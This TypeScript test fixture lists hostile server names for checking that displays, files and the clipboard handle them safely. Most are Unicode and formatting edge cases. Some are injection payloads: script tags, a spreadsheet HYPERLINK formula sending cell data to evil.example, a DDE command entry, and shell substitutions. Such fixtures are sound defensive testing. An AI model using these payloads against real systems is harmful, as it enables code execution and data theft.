// Names that people or attackers could give to servers, and that no view, file or clipboard may trip over.

type NonEmpty<T> = readonly [T, ...T[]];

/** Every one is legal JSON text; each stands for a way in which a name can do harm. */
export const nastyNames: NonEmpty<string> = [
  '<img src=x onerror="document.title=\'owned\'">',
  '</script><script>document.title="owned"</script>',
  '\u202Emoc.elpmaxe.lla-eteled\u202C',
  '\u200Fsrv\u200E-\u2066rtl\u2069\u061C',
  `long-${'x'.repeat(10_240)}`,
  'bell\u0007nul\u0000escape\u001B[31mred\u001B[0m\u007F',
  'two\r\nlines\tand a tab\u2028and more\u2029',
  `O'Brien's "box" \`id\` \\ end`,
  'esx+01 %2B & ? # = / ;',
  '🖥️ rack 👩‍🔬 ñandú-ÅÄÖ-ẞ-İı',
  '=HYPERLINK("https://evil.example/?x="&A1,"open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  '00012345',
  '1e10',
  '   spaces around   ',
  '__proto__',
  'null',
  '$(touch owned) `touch owned` $\u007Bowned} $1',
];
